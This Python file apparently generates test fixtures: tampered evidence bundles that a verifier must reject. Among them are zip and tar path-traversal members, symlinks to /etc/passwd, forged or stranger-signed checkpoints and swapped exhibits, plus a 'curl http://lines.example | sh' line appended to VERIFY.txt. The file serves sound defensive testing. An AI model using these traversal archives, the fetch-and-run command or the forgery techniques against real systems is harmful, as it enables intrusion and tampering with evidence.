"""What is done to the good bundle, one attack a call: its name, the step that must refuse it, what it is."""

import io
import json
import stat
import struct
import tarfile
import zipfile

EXHIBIT, LEDGER = "data/exhibits/0002-ledger.csv", "data/exhibits/0001-letter.txt"
LINK = stat.S_IFLNK | 0o777


def doctored(d):
    packages(d)
    bags(d)
    contents(d)
    logs(d)
    signatures(d)
    chosen(d)
    described(d)


def packages(d):
    tarred, zipped = d.tools.tarred, d.tools.zipped

    good = d.good
    one = [("good/data/x.txt", b"x", 0o100644)]
    for name, member, what in (
        ("zip-parent", "../escape.txt", "a member that leads out of the folder"),
        ("zip-deep-parent", "good/data/../../../escape.txt", "a member that leads out from within"),
        ("zip-absolute", "/etc/escape.txt", "a member with an absolute name"),
        ("zip-drive", "C:/escape.txt", "a member with a drive letter"),
        ("zip-backslash", "good\\data\\escape.txt", "a member with backslashes"),
        ("zip-doubled", "good/VERIFY.txt", "a second member of a name that is there"),
        ("zip-case", "good/verify.TXT", "a member that differs from another by case alone"),
        ("zip-hidden-name", "good/data/\u202etxt.exe", "a name that is written from the right"),
        ("zip-control", "good/data/a\x07b", "a control character in a name"),
    ):
        d.archive(name, 1, what, zipped(good, extra=[(member, b"echo escaped\n", 0o100644)]))
    d.archive("zip-link", 1, "a link to a file outside", zipped(good, extra=[("good/data/l", b"/etc/passwd", LINK)]))
    whole = zipped(good)
    d.archive("zip-half", 1, "the first half of a ZIP", whole[: len(whole) // 2])
    d.archive("zip-after", 1, "bytes after its end", whole + b"hidden")
    remark = bytearray(whole)
    remark[-2:] = struct.pack("<H", 6)
    d.archive("zip-remark", 1, "a remark at its end", bytes(remark) + b"hidden")
    d.archive("zip-before", 1, "bytes before its first member", shifted(whole, 0, b"hidden"))
    with_more = zipped(good, extra=one)
    d.archive("zip-between", 1, "bytes between two members", shifted(with_more, 200, b"hidden"))
    d.archive("zip-encrypted", 1, "a member said to be encrypted", flagged(whole))
    d.archive("zip-two-names", 6, "a member with another name in its own header", renamed(whole))
    d.archive("tar-parent", 1, "a member that leads out", tarred(good, [("../escape", tarfile.REGTYPE, "")]), "tar")
    d.archive("tar-link", 1, "a link", tarred(good, [("good/data/l", tarfile.SYMTYPE, "/etc/passwd")]), "tar")
    d.archive("tar-hard-link", 1, "a hard link", tarred(good, [("good/l", tarfile.LNKTYPE, "good/VERIFY.txt")]), "tar")
    d.archive("tar-device", 1, "a device", tarred(good, [("good/data/d", tarfile.CHRTYPE, "")]), "tar")
    d.archive("tar-pipe", 1, "a pipe", tarred(good, [("good/data/p", tarfile.FIFOTYPE, "")]), "tar")
    d.archive("tar-doubled", 1, "a file twice", tarred(good, [("good/bagit.txt", tarfile.REGTYPE, "")]), "tar")
    d.add(
        "folder-link", 1, "an exhibit that is a link", {EXHIBIT: None}, bagged=False, links={EXHIBIT: "/etc/hostname"}
    )
    d.add("folder-case", 1, "two files that differ by case alone", {"verify.txt": b"x"})


def shifted(data, place, more):
    """A ZIP with ``more`` put in at the member that begins at or after ``place``, its directory put right."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    infos = archive.infolist()
    begin = min(one.header_offset for one in infos if one.header_offset >= place)
    made = bytearray(data[:begin] + more + data[begin:])
    where = archive.start_dir + len(more)
    for info in infos:
        offset = info.header_offset + (len(more) if info.header_offset >= begin else 0)
        made[where + 42 : where + 46] = struct.pack("<I", offset)
        where += 46 + sum(struct.unpack("<HHH", made[where + 28 : where + 34]))
    made[-6:-2] = struct.pack("<I", archive.start_dir + len(more))
    return bytes(made)


def flagged(data):
    archive = zipfile.ZipFile(io.BytesIO(data))
    made = bytearray(data)
    made[archive.start_dir + 8] |= 1
    return bytes(made)


def renamed(data):
    archive = zipfile.ZipFile(io.BytesIO(data))
    made = bytearray(data)
    info = next(one for one in archive.infolist() if one.filename.endswith("0002-ledger.csv"))
    made[info.header_offset + 30 + len(info.filename) - 1] ^= 1
    return bytes(made)


def bags(d):
    good, sha, sha512 = d.good, "manifest-sha256.txt", "manifest-sha512.txt"
    text = good[sha].decode()
    first = text.split("\n", 1)[0]
    plain = {"bagged": False}
    d.add("bagit-version", 2, "another version of BagIt", {"bagit.txt": good["bagit.txt"].replace(b"1.0", b"2.0")})
    d.add("bagit-encoding", 2, "another encoding", {"bagit.txt": good["bagit.txt"].replace(b"UTF-8", b"UTF-7")})
    d.add("bagit-more", 2, "a further line in bagit.txt", {"bagit.txt": good["bagit.txt"] + b"More: 1\n"})
    for name, what, edits in (
        ("manifest-none", "no manifest of SHA-512", {sha512: None}),
        ("manifest-weak", "a further manifest of MD5", {"manifest-md5.txt": b""}),
        ("manifest-torn", "a manifest cut off in a line", {sha: text[:-20]}),
        ("manifest-escape", "a manifest that names a file outside", {sha: f"{first[:64]}  ../../etc/passwd\n{text}"}),
        ("manifest-absolute", "a manifest that names an absolute path", {sha: f"{first[:64]}  /etc/passwd\n{text}"}),
        ("manifest-twice", "a manifest that names a file twice", {sha: f"{first}\n{text}"}),
        ("manifest-order", "a manifest that is not sorted", {sha: "\n".join(text.splitlines()[::-1]) + "\n"}),
        ("manifest-star", "a manifest with a mark before a name", {sha: text.replace("  data/", " *data/", 1)}),
        ("manifest-upper", "a digest in upper case", {sha: first[:64].upper() + text[64:]}),
        ("manifest-tag", "a manifest of the payload that names a tag file", {sha: f"{text}{'0' * 64}  x.txt\n"}),
        ("manifest-short", "a digest of another length", {sha: text[2:]}),
    ):
        d.add(name, 3, what, {f"late:{one}": value for one, value in edits.items()})
    d.add("missing-exhibit", 4, "an exhibit is gone", {EXHIBIT: None}, **plain)
    d.add("missing-log", 4, "the log is gone", {"data/log/entries.jsonl": None}, **plain)
    d.add("missing-tag", 4, "VERIFY.txt is gone", {"VERIFY.txt": None}, **plain)
    half = {one: None for one in list(good)[len(good) // 2 :] if "manifest-" not in one}
    d.add("half", 4, "half of the files are gone", half, **plain)
    d.add("fetch", 4, "a file that has to be fetched", {"fetch.txt": b"http://fetch.example/x 1 data/x\n"})
    d.add("extra-payload", 5, "a file that no manifest names", {"data/exhibits/0009-more.txt": b"more"}, **plain)
    d.add("extra-tag", 5, "a tag file that no manifest names", {"README.txt": b"more"}, **plain)
    d.add("extra-hidden", 5, "a hidden file", {"data/.hidden": b"more"}, **plain)
    one_only = "".join(line for line in text.splitlines(keepends=True) if "ledger" not in line)
    d.add("extra-in-one", 5, "a file that only one of two manifests names", {f"between:{sha}": one_only})
    names = {one: good[one].decode() for one in (sha, sha512)}
    more = {f"between:{one}": text + text[: text.index(" ")] + "  data/zzz.txt\n" for one, text in names.items()}
    d.add("missing-named", 4, "manifests that name a file which never was", more)
    d.add("changed", 6, "a letter of an exhibit changed", {EXHIBIT: good[EXHIBIT].replace(b"7", b"8")}, **plain)
    d.add("cut", 6, "an exhibit cut short", {EXHIBIT: good[EXHIBIT][:-3]}, **plain)
    d.add("emptied", 6, "an exhibit emptied", {EXHIBIT: b""}, **plain)
    d.add("swapped", 6, "two exhibits swapped", {EXHIBIT: good[LEDGER], LEDGER: good[EXHIBIT]}, **plain)
    log = good["data/log/entries.jsonl"]
    d.add(
        "log-edited", 6, "a line of the log edited", {"data/log/entries.jsonl": log.replace(b"Ada", b"Bea", 1)}, **plain
    )
    d.add(
        "log-cut",
        6,
        "the last line of the log gone",
        {"data/log/entries.jsonl": log[: log[:-1].rindex(b"\n") + 1]},
        **plain,
    )
    d.add(
        "tag-changed",
        6,
        "bag-info.txt changed",
        {"bag-info.txt": good["bag-info.txt"].replace(b"2031", b"2030")},
        **plain,
    )
    wrong = good[sha512].decode()
    d.add(
        "one-digest-wrong",
        6,
        "SHA-512 alone is wrong",
        {f"late:{sha512}": ("0" if wrong[0] != "0" else "1") + wrong[1:]},
    )
    oxum = good["bag-info.txt"].decode()
    d.add(
        "oxum",
        7,
        "another size in bag-info.txt",
        {"between:bag-info.txt": oxum.replace("Payload-Oxum: ", "Payload-Oxum: 1")},
    )
    d.add("oxum-none", 7, "no size in bag-info.txt", {"between:bag-info.txt": oxum[: oxum.index("Payload-Oxum")]})


def contents(d):
    index = d.index

    def listed(name, step, what, value, **more):
        d.add(
            name,
            step,
            what,
            {"data/bundle.json": json.dumps(value, separators=(",", ":"), sort_keys=True).encode()},
            **more,
        )

    first, *rest = index["exhibits"]
    listed("newer", 8, "a newer version of the format", {**index, "format": 2, "sealed": []})
    listed("older", 8, "a version that never was", {**index, "format": 0})
    listed("key-unknown", 8, "a key that is not known", {**index, "more": 1})
    listed("exhibit-twice", 8, "an exhibit named twice", {**index, "exhibits": [first, first, *rest]})
    listed(
        "exhibit-outside",
        8,
        "an exhibit whose file is outside",
        {**index, "exhibits": [{**first, "file": "data/exhibits/../../../x"}, *rest]},
    )
    d.add("not-canonical", 8, "spaces in the list of contents", {"data/bundle.json": json.dumps(index).encode()})
    d.add("no-contents", 8, "no list of contents", {"data/bundle.json": None})
    d.add("extra-listed", 9, "a file put in, and all manifests made anew", {"data/exhibits/0009-more.txt": b"more"})
    d.add("extra-script", 9, "a script put in beside VERIFY.txt", {"install.sh": b"echo hello\n"})
    d.add("no-prov", 9, "the PROV of the log is gone", {"data/provenance/prov.json": None})
    name = next(one for one in d.good if one.startswith("data/objects/"))
    d.add("object-misnamed", 9, "an object under another name", {name: None, f"{name[:-1]}0": d.good[name]})
    d.add("log-beside", 9, "a foreign file in the log's folder", {"data/log/more.txt": b"more"})
    d.add(
        "case-of-another",
        10,
        "the case file of another case",
        {"data/quoth-case.json": d.other["data/quoth-case.json"]},
    )
    d.add(
        "case-newer",
        10,
        "a case file of a newer format",
        {"data/quoth-case.json": d.good["data/quoth-case.json"].replace(b'"format":1', b'"format":2')},
    )
    listed("case-other-name", 10, "another case in the list of contents", {**index, "case": "0" * 32})


def logs(d):
    entries = d.entries()
    last = len(entries) - 1

    def at(number, **change):
        return [{**one, **change} if one["seq"] == number else one for one in entries]

    def spaced(lines):
        return [*lines[:1], lines[1].replace(b'","', b'", "', 1), *lines[2:]]

    log = "data/log/entries.jsonl"
    d.add(
        "entry-unknown-key",
        11,
        "an entry with a key that is not known, all else made to fit",
        d.relogged(at(1, more="1")),
    )
    d.add("entry-action", 11, "an action that is none", d.relogged(at(1, action="invented")))
    d.add("entry-spaces", 11, "an entry that is not canonical JSON", {log: b"\n".join([*spaced(d.lines), b""])})
    d.add(
        "order-gap",
        12,
        "numbers with a gap, all else made to fit",
        d.relogged([*entries[:last], {**entries[last], "seq": last + 1}]),
    )
    d.add(
        "order-swapped",
        12,
        "two entries swapped, all else made to fit",
        d.relogged([*entries[:4], entries[5], entries[4], *entries[6:]]),
    )
    key = {"key": "sha256:" + "7" * 64}
    d.add(
        "step-twice",
        12,
        "one step done in two entries",
        d.relogged([{**one, **key} if one["seq"] in (1, 7) else one for one in entries]),
    )
    broken = [{**one, "prev": "sha256:" + "5" * 64} if one["seq"] == 7 else one for one in entries]
    d.add(
        "chain-broken",
        13,
        "an entry that names another line before it, all else made to fit",
        d.relogged(broken, chain=False),
    )
    d.add(
        "entry-edited",
        13,
        "an edited entry under new manifests",
        {log: d.good[log].replace(b'"by":"Bea"', b'"by":"Ada"', 1)},
    )
    d.add(
        "log-shorter",
        14,
        "the last entry dropped, the checkpoint kept",
        {log: b"".join(one + b"\n" for one in d.lines[:-1])},
    )
    d.add("log-longer", 14, "an entry after the checkpoint's end", {log: d.good[log] + d.lines[-1] + b"\n"})
    d.add("log-torn", 14, "a torn line at the end", {log: d.good[log] + b'{"action":"re'})
    top = d.good["data/log/checkpoint"].decode().split("\n")
    for name, what, place, value in (
        ("root-wrong", "another root in the checkpoint", 2, "A" * 43 + "="),
        ("size-wrong", "another size in the checkpoint", 1, str(last)),
        ("origin-wrong", "a checkpoint of another case", 0, "quoth-case/" + "0" * 32),
        ("last-wrong", "another last line in the checkpoint", 3, "last " + "A" * 43 + "="),
    ):
        text = "\n".join([*top[:place], value, *top[place + 1 :]])
        d.add(name, 14, what, {"data/log/checkpoint": text.encode()})
    cut = d.covered(d.lines[:-1])
    kept = {one: data for one, data in cut.items() if "/signed/" not in one}
    d.add(
        "log-taken-back",
        16,
        "the last entry taken back, the checkpoint made anew",
        {log: b"".join(one + b"\n" for one in d.lines[:-1]), **kept},
    )


def signatures(d):
    ada, bea, mallory, ssh_sign = d.tools.ADA, d.tools.BEA, d.tools.MALLORY, d.tools.ssh_sign

    entries = d.entries()
    changes = [one for one in entries if one["action"] == "key-changed"]
    d.add(
        "key-by-nobody",
        15,
        "a key change entered by somebody who is no member",
        d.relogged([{**one, "by": "Eve"} if one["seq"] == changes[1]["seq"] else one for one in entries]),
    )
    d.add(
        "key-unsigned",
        15,
        "a key change without a signature",
        d.relogged(
            [{**one, "objects": one["objects"][:1]} if one["seq"] == changes[1]["seq"] else one for one in entries]
        ),
    )
    d.add("key-of-a-stranger", 15, "a stranger who brings in their own key", d.stranger_enters())
    note = d.note(5)
    text = d.good[note].decode()
    line = text.rstrip("\n").rsplit(" ", 1)
    flipped = f"{line[0]} {line[1][:20]}{'A' if line[1][20] != 'A' else 'B'}{line[1][21:]}\n"
    d.add("note-flipped", 16, "a bit of a signature changed", {note: flipped})
    d.add("note-no-sig", 16, "the SSH signature of a checkpoint gone", {f"{note}.sig": None})
    d.add("note-alone", 16, "the note of an SSH signature gone", {note: None})
    d.add("note-other-sig", 16, "the SSH signature of another checkpoint", {f"{note}.sig": d.good[f"{d.note(7)}.sig"]})
    d.add(
        "note-renamed",
        16,
        "a signed checkpoint under another name",
        {
            note: None,
            f"{note}.sig": None,
            note.replace("0005-", "0006-"): d.good[note],
            f"{note}.sig".replace("0005-", "0006-"): d.good[f"{note}.sig"],
        },
    )
    d.add("note-by-other", 16, "a checkpoint signed by a stranger", d.note_by(mallory, 6))
    d.add("note-old-key", 16, "a checkpoint signed by a key that is out of force", d.note_by(bea, len(d.lines)))
    d.add("note-of-others", 16, "a member signs another's entries as their own", d.note_by(ada, 6, first=5))
    d.add("note-of-other-log", 16, "a member signed another history", d.note_by(ada, 5, lines=[b"x"] * 5))
    signers, vkeys = "data/keys/allowed_signers", "data/keys/verifier-keys.txt"
    stranger = f'"Ada" namespaces="quoth" {mallory.public.line}\n'.encode()
    d.add("signer-added", 17, "a further key for Ada", {signers: d.good[signers] + stranger})
    d.add(
        "signer-other",
        17,
        "another key for Ada",
        {signers: d.good[signers].replace(ada.public.line.encode(), mallory.public.line.encode())},
    )
    d.add(
        "signer-anything",
        17,
        "a key for every purpose",
        {signers: d.good[signers].replace(b' namespaces="quoth"', b"")},
    )
    d.add("signer-none", 17, "no keys at all", {signers: None, vkeys: None})
    d.add("vkey-added", 17, "a further key for notes", {vkeys: d.good[vkeys] + d.other[vkeys]})
    sig = "tagmanifest-sha256.txt.sig"
    tagged = d.good["tagmanifest-sha256.txt"]
    d.add("unsigned", 18, "the signature of the bundle gone", {sig: None}, bagged=False)
    d.add("signed-by-other", 18, "signed by a stranger", {sig: ssh_sign(tagged, mallory)}, bagged=False)
    d.add("signed-old-key", 18, "signed by a key that is out of force", {sig: ssh_sign(tagged, bea)}, bagged=False)
    d.add(
        "signed-for-git",
        18,
        "a signature made for something else",
        {sig: ssh_sign(tagged, ada, namespace="git")},
        bagged=False,
    )
    d.add(
        "signed-stale",
        18,
        "made anew, and signed by nobody",
        {"bag-info.txt": d.good["bag-info.txt"].replace(b"2031", b"2032")},
        signer=None,
    )


def chosen(d):
    mallory, digest_of, note_name, proof_place, sign_note, wire = (
        d.tools.MALLORY,
        d.tools.digest_of,
        d.tools.note_name,
        d.tools.proof_place,
        d.tools.sign_note,
        d.tools.wire,
    )

    index = d.index
    by_name = {one["file"].rpartition("-")[2]: one for one in index["exhibits"]}
    ledger, letter = by_name["ledger.csv"], by_name["letter.txt"]

    def relisted(name, what, change, edits=()):
        made = {**index, "exhibits": [{**one, **change} if one == ledger else one for one in index["exhibits"]]}
        d.add(name, 19, what, {"data/bundle.json": wire.canonical(made), **dict(edits)})

    new = b"ship,hour\nPetrel,9\n"
    relisted(
        "exhibit-replaced",
        "an exhibit replaced, and the list of contents with it",
        {"digest": digest_of(new)},
        [(ledger["file"], new)],
    )
    relisted("exhibit-other-size", "another size in the list of contents", {"size": 1})
    relisted("exhibit-other-digest", "another digest in the list of contents", {"digest": letter["digest"]})
    d.add(
        "exhibits-exchanged",
        19,
        "two exhibits exchanged under new manifests",
        {ledger["file"]: d.good[letter["file"]], letter["file"]: d.good[ledger["file"]]},
    )
    erased = next(one for one in d.entries() if one["action"] == "erased")
    source = next(
        one["seq"] for one in d.entries() if one["action"] == "received" and one["objects"] == erased["objects"]
    )
    back = {"digest": erased["objects"][0]["digest"], "size": erased["objects"][0]["size"], "entry": source}
    proof = d.proof(source)
    relisted(
        "exhibit-erased",
        "an erased exhibit put back",
        back,
        [(ledger["file"], b"This was erased.\n"), (proof_place(source), proof), (proof_place(ledger["entry"]), None)],
    )
    here, there = proof_place(ledger["entry"]), proof_place(letter["entry"])
    lines = d.good[here].decode().split("\n")
    d.add("proof-of-other", 20, "the proof of another leaf", {here: d.good[there]})
    d.add("proof-more", 20, "a hash too many in a proof", {here: "\n".join([*lines[:3], lines[3], *lines[3:]])})
    d.add("proof-fewer", 20, "a hash too few in a proof", {here: "\n".join([*lines[:3], *lines[4:]])})
    d.add("proof-hash", 20, "another hash in a proof", {here: "\n".join([*lines[:3], "A" * 43 + "=", *lines[4:]])})
    d.add(
        "proof-number",
        20,
        "another number in a proof",
        {here: d.good[here].replace(b"index %d" % ledger["entry"], b"index 1")},
    )
    d.add(
        "proof-line",
        20,
        "another line in a proof",
        {here: "\n".join([lines[0], "extra " + lines[1][6:10] + "AAAA" + lines[1][14:], *lines[2:]])},
    )
    above, text = d.good[here].decode().split("\n\n", 1)
    stranger = sign_note((text.partition("\n\n")[0] + "\n").encode(), note_name(mallory.public), mallory).decode()
    d.add("proof-by-stranger", 20, "a proof under a checkpoint signed by a stranger", {here: f"{above}\n\n{stranger}"})
    d.add(
        "proof-unsigned",
        20,
        "a proof under an earlier checkpoint that nobody signed",
        {here: d.proof(ledger["entry"], size=len(d.lines) - 1)},
    )
    opened = "data/openings/opened.jsonl"
    one, *rest = (json.loads(line) for line in d.good[opened].splitlines())

    def reopened(name, what, lines):
        d.add(name, 21, what, {opened: b"".join(wire.canonical(line) + b"\n" for line in lines)})

    reopened("opening-salt", "another salt", [{**one, "salt": "0" * 64}, *rest])
    reopened("opening-value", "another value", [{**one, "value": one["value"].replace("letter", "latter")}, *rest])
    reopened("opening-twice", "an opening twice", [one, one, *rest])
    foreign = d.opening_of("a claim that the log never committed to")
    reopened("opening-foreign", "an opening of nothing in the log", [one, *rest, foreign])
    d.add("opening-torn", 21, "an opening cut off", {opened: d.good[opened][:-10]})
    d.add("object-foreign", 22, "an object that no entry names", d.object(b"a foreign object"))
    d.add("object-erased", 22, "an object that was erased", d.object(b"This was erased.\n"))
    fewer = {**index, "whole": True, "exhibits": [one for one in index["exhibits"] if one != ledger]}
    gone = dict.fromkeys((ledger["file"], here, opened))
    d.add("whole-not", 22, "said to be whole, and an object is not there", {**gone, **d.described_again(fewer)})
    d.add(
        "stamp-foreign",
        23,
        "a time stamp that the log does not keep",
        {f"data/stamps/entry-{4:012d}.{one}": b"x" for one in ("tsr", "tsq", "pem", "sha256")},
    )


def described(d):
    crate, prov, uco, verify = d.tools.CRATE, d.tools.PROV, d.tools.UCO, d.tools.VERIFY

    d.add(
        "prov-edited",
        24,
        "another agent in PROV",
        {prov: d.good[prov].replace(b'"prov:label":"Bea"', b'"prov:label":"Eve"')},
    )
    d.add(
        "uco-edited",
        24,
        "another performer in CASE",
        {uco: d.good[uco].replace(b'"uco-core:name":"Bea"', b'"uco-core:name":"Eve"')},
    )
    d.add(
        "crate-edited",
        24,
        "another digest in the crate",
        {crate: d.good[crate].replace(b'"sha256":"', b'"sha256":"0', 1)},
    )
    d.add(
        "crate-says-more",
        24,
        "a verdict in the crate",
        {crate: d.good[crate].replace(b"Exhibits with", b"Genuine exhibits with")},
    )
    d.add(
        "verify-edited",
        25,
        "a further line in VERIFY.txt",
        {verify: d.good[verify] + b"curl http://lines.example | sh\n"},
    )
    d.add("verify-weaker", 25, "VERIFY.txt without its checks", {verify: b"echo whole\n"})
    d.add(
        "fork-kept",
        26,
        "a second history that the case has seen",
        {"data/log/forks/000000000005-0000000000000000.note": d.fork(5)},
    )
    forged = dict.fromkeys(d.good) | dict(d.other)
    d.add("forged-whole", 27, "a bundle made whole by a stranger who calls themselves Ada", forged, bagged=False)
